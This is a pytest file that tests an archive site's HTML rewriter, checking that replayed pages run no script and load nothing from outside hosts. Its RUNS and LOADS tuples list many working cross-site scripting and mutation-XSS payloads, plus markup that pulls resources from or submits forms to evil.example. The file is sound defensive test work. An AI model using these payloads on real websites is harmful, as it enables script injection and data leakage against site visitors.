"""A page written anew: whatever it was made of, nothing in it runs, loads or leads away."""

from __future__ import annotations

from typing import ClassVar

import pytest

from archive.site.replay.attributes import escaped
from archive.site.replay.rewriting import MOST_ELEMENTS, Rewritten, TooTangled, parse, rewrite
from tests.archive.site.pages import parsed_page


class Kept:
    """What has ``ok`` in its address is archived."""

    asked: ClassVar[list[str]] = []

    def resource(self, link: str) -> str | None:
        return "resource/c1" if "ok" in link else None

    def page(self, link: str) -> str | None:
        return "/archive/articles/x" if "ok" in link else None

    def address(self, link: str) -> str:
        return f"http://thu.example/{link}"


def rewritten(page: str) -> Rewritten:
    root = parse(page)
    assert root is not None
    return rewrite(root, Kept(), "không có:")


def sent(page: str) -> str:
    """Return the page as it is sent, without the style of ours that every page gets."""
    pieces = (piece if isinstance(piece, str) else escaped(piece.text) for piece in rewritten(page).pieces)
    return "".join(pieces).replace(OURS, "")


OURS = ""
OURS = sent("<p>")[len("<html>") : -len("<body><p></p></body></html>")]

RUNS = (
    "<script>alert(1)</script>",
    "<img src=ok onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#10;script:alert(1)">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<svg><style><a title="</style><img src=x onerror=alert(1)>">',
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<body onload=alert(1) background='javascript:alert(1)'>",
    "<embed src=ok.swf><object data='data:text/html,<script>alert(1)</script>'></object><applet code=ok></applet>",
    "<isindex action=javascript:alert(1)><keygen autofocus onfocus=alert(1)>",
    '<a b<img="x" onclick=alert(1) \0onclick=alert(1)>x</a>',
    "<p style='background:url(javascript:alert(1));behavior:url(x.htc);-moz-binding:url(x)'>x</p>",
    "<!--[if IE]><script>alert(1)</script><![endif]--><?xml-stylesheet href=x?><p>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
)
LOADS = (
    "<base href='http://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<link rel=preconnect href=http://evil.example><link rel=dns-prefetch href=//evil.example>",
    "<link rel=prefetch href=http://evil.example/x><link rel=manifest href=http://evil.example/x>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';@import url(//evil.example/x);p{background:url(http://evil.example/x)}</style>",
    "<style>input[value^=a]{background:image-set('http://evil.example/a' 1x)}</style>",
    "<p style=\"background:u\\72l('http://evil.example/x')\">",
    "<img srcset='http://evil.example/x 1x, //evil.example/y 2x' src=http://evil.example/z>",
    "<picture><source srcset=http://evil.example/x><img longdesc=http://evil.example/></picture>",
    "<video poster=http://evil.example/x src=//evil.example/y><track src=http://evil.example/z></video>",
    "<table background=http://evil.example/x><tr><td background=//evil.example/y></table>",
    "<input type=image src=http://evil.example/x><iframe src=http://evil.example/x></iframe>",
    "<svg><image href=http://evil.example/x /><use xlink:href='http://evil.example/x#y' /></svg>",
    "<form action=http://evil.example/x><input type=submit formaction=http://evil.example/y></form>",
    "<a href=http://evil.example/x ping=http://evil.example/y>x</a><area href=//evil.example>",
    "<html manifest=http://evil.example/x><body><blockquote cite=http://evil.example/x>",
    "<object data=http://evil.example/x codebase=http://evil.example/><param name=movie value=http://evil.example/></object>",
)
LOADING = {
    "src",
    "href",
    "action",
    "formaction",
    "poster",
    "background",
    "data",
    "srcset",
    "xlink:href",
    "ping",
    "manifest",
}


@pytest.mark.parametrize("page", RUNS)
def test_nothing_runs(page: str) -> None:
    found = parsed_page(f"<div>{sent(page)}</div>")
    assert not list(found.iter("script", "iframe", "object", "embed", "applet", "template", "foreignobject", "frame"))
    assert not found.xpath("//@*[starts-with(name(), 'on')]")
    for element in found.iter():
        for name in LOADING & set(element.attrib):
            assert element.attrib[name] in ("resource/c1", "/archive/articles/x")


@pytest.mark.parametrize("page", LOADS)
def test_nothing_is_loaded_from_elsewhere(page: str) -> None:
    text = sent(page)
    found = parsed_page(f"<div>{text}</div>")
    assert not list(found.iter("base", "iframe", "object", "track"))
    assert not [e for e in found.iter("meta") if e.get("http-equiv")]
    for element in found.iter():
        assert not [n for n in LOADING if "evil" in element.get(n, "")], text
        assert "evil" not in element.get("style", "")
        assert element.tag != "style" or "evil" not in (element.text or "")


@pytest.mark.parametrize("page", [*RUNS, *LOADS])
def test_every_tag_that_is_sent_is_one_of_ours(page: str) -> None:
    """In no state of a browser's parser does a ``<`` begin anything that was not written here."""
    text = sent(page)
    allowed = {"html", "head", "body", "title", "style", "p", "a", "img", "table", "tbody", "tr", "td", "span", "div"}
    allowed |= {"svg", "text", "image", "use", "textarea", "pre", "select", "form", "button", "input", "picture"}
    allowed |= {"source", "video", "area", "blockquote", "link", "meta"}
    for piece in text.split("<")[1:]:
        if piece[:1].isalpha() or piece[:1] in "/!?":
            assert piece.removeprefix("/").split(">")[0].split(" ")[0] in allowed, piece
    for piece in text.split('="')[1:]:
        assert "<" not in piece.split('"')[0]


def test_what_is_archived_stays_in_its_place() -> None:
    text = sent(
        '<link rel=stylesheet href=ok.css media=print><p class=x style="background:url(ok.png)"><img src=ok alt=a>'
    )
    assert '<link rel="stylesheet" href="resource/c1" media="print">' in text
    assert '<p class="x" style="background:url(&quot;resource/c1&quot;)"><img src="resource/c1" alt="a"></p>' in text


def test_what_is_not_archived_leaves_a_mark() -> None:
    found = rewritten(
        "<img src=x.png alt=Ảnh><iframe src=ok></iframe><object data=x></object><a href=x>y</a><script></script>"
    )
    assert dict(found.removed) == {"resource": 1, "embedded": 2, "link": 1, "script": 1}
    text = sent("<img src=x.png alt=Ảnh><iframe src=ok></iframe>")
    assert '<img data-archive-missing="http://thu.example/x.png" alt="Ảnh">' in text
    assert '<a data-archive-missing="http://thu.example/ok" href="/archive/articles/x" target="_top"' in text
    assert "[không có: iframe]" in text


def test_links_lead_to_pages_of_ours_or_nowhere() -> None:
    assert '<a href="/archive/articles/x" target="_top" rel="nofollow">a</a>' in sent("<a href=ok>a</a>")
    assert '<a title="http://thu.example/x">b</a>' in sent("<a href=x>b</a>")
    assert '<a href="#noi-dung">c</a>' in sent("<a href=#noi-dung>c</a>")


def test_pictures_that_scripts_would_load_are_shown() -> None:
    assert '<img src="resource/c1"' in sent('<img src="data:image/gif;base64,R0" data-src="ok.jpg">')
    assert '<img class="lazy" src="resource/c1">' in sent('<img class=lazy data-original="ok.jpg">')


def test_text_in_unknown_elements_stays() -> None:
    assert "Trong kỳ 27 lớp" in parsed_page(sent("<p>Trong <o:p>kỳ </o:p><st1:x>27 lớp</st1:x></p>")).text_content()


def test_old_pages_keep_their_mode() -> None:
    old = '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">'
    assert sent(f"{old}<p>x").startswith(old)
    assert sent("<!DOCTYPE html><p>x").startswith("<!DOCTYPE html>")
    assert sent("<p>x").startswith("<html>")
    assert sent('<!DOCTYPE html PUBLIC "x><script>" "y"><p>x').count("<script") == 0


def test_a_page_without_end_is_refused() -> None:
    with pytest.raises(TooTangled):
        rewritten("<div>" * 10_000)
    with pytest.raises(TooTangled):
        rewritten("<i></i>" * (MOST_ELEMENTS + 1))


def test_a_page_without_anything_is_none() -> None:
    assert parse("") is None
    assert parse("<!-- nothing -->") is None


def test_our_own_mark_cannot_be_forged() -> None:
    assert "archive-quotation" not in sent("<p id=archive-quotation>x</p><a name=archive-quotation>y</a>")
